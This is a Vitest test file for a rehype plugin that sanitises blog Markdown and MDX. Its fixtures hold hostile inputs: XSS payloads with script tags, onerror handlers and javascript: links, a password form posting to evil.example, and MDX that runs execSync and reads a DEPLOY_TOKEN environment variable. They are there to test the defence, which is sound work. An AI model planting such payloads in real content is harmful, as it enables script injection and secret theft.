import { createMarkdownProcessor } from "@astrojs/markdown-remark";
import { compile } from "@mdx-js/mdx";
import { describe, expect, it } from "vitest";
import {
  rehypeContentGuard,
  rehypeOutboundLinks,
  type ContentGuardOptions,
  type OutboundLinkOptions,
} from "../../../src/output/blog/rehype-content-guard.ts";

const site = "https://transparency.example.org";
const plugins = (
  allowCode: boolean,
): [[typeof rehypeContentGuard, ContentGuardOptions], [typeof rehypeOutboundLinks, OutboundLinkOptions]] => [
  [rehypeContentGuard, { allowCode }],
  [rehypeOutboundLinks, { site }],
];

// The guard is defence in depth: validate refuses all of this first, so it is rendered here directly.
const hostileMarkdown = [
  'Pixel <img src="https://tracker.example/p.gif" alt="p"> and <img src="/ok.png" alt="ok" onerror="alert(1)">',
  "",
  '<script>alert("script ran")</script><iframe src="/frame"></iframe><style>body{}</style>',
  "",
  '<form action="https://evil.example/"><input name="password"></form><object data="/x.swf"></object>',
  "",
  "[js](javascript:alert(1)) [out](https://example.org/) [own](https://transparency.example.org/data/) ![r](//cdn.example/x.png)",
  "",
  '<details><summary>More</summary> <kbd>Ctrl</kbd> <a href="https://example.net/" rel="me">them</a></details>',
].join("\n");

describe("rendered Markdown", () => {
  it("keeps only the allow-list, loads nothing from elsewhere and gives outbound links rel=noreferrer", async () => {
    const processor = await createMarkdownProcessor({ rehypePlugins: [...plugins(false)] });
    const { code } = await processor.render(hostileMarkdown, { fileURL: new URL("file:///site/content/blog/p.md") });
    for (const gone of [
      "<script",
      "script ran",
      "<iframe",
      "<style",
      "<form",
      "<object",
      "onerror",
      "javascript:",
      "tracker.example",
      "cdn.example",
    ])
      expect(code).not.toContain(gone);
    expect(code).toContain('<img src="/ok.png" alt="ok">');
    expect(code).toContain("<details><summary>More</summary> <kbd>Ctrl</kbd>");
    expect(code).toContain('<a href="https://example.org/" rel="noreferrer">out</a>');
    expect(code).toContain('<a href="https://example.net/" rel="noreferrer">them</a>');
    expect(code).toContain('<a href="https://transparency.example.org/data/">own</a>');
  });
});

const hostileMdx = [
  'import { execSync } from "node:child_process";',
  'export const ran = execSync("id");',
  "",
  "Key: {process.env.DEPLOY_TOKEN} under the {legal} framework.",
  "",
  '<img src="/ok.png" alt="ok" onError="alert(1)" />',
  "",
  '<script>{"alert(1)"}</script>',
  "",
  '<a href="javascript:alert(1)">js</a> <a href="https://example.org/">out</a> [md](https://example.net/)',
  "",
  '<Callout type="note" {...ran}>A component stays.</Callout>',
].join("\n");

describe("rendered MDX", () => {
  it("drops imports, exports, expressions, refused tags and attributes, and keeps components", async () => {
    const code = String(await compile(hostileMdx, { rehypePlugins: [...plugins(false)] }));
    for (const gone of ["child_process", "execSync", "DEPLOY_TOKEN", "legal", "onError", "alert", "javascript:"])
      expect(code).not.toContain(gone);
    expect(code).toMatch(/_jsx\("img", \{\s*src: "\/ok\.png",\s*alt: "ok"\s*\}/);
    expect(code).toMatch(/href: "https:\/\/example\.org\/",\s*rel: "noreferrer"/);
    expect(code).toMatch(/href: "https:\/\/example\.net\/",\s*rel: "noreferrer"/);
    expect(code).toMatch(/_jsx\(Callout, \{\s*type: "note",\s*children/);
  });

  it("keeps the code of a site that sets content.allowCode", async () => {
    const code = String(await compile(hostileMdx, { rehypePlugins: [...plugins(true)] }));
    expect(code).toContain("child_process");
    expect(code).toContain("process.env.DEPLOY_TOKEN");
  });
});
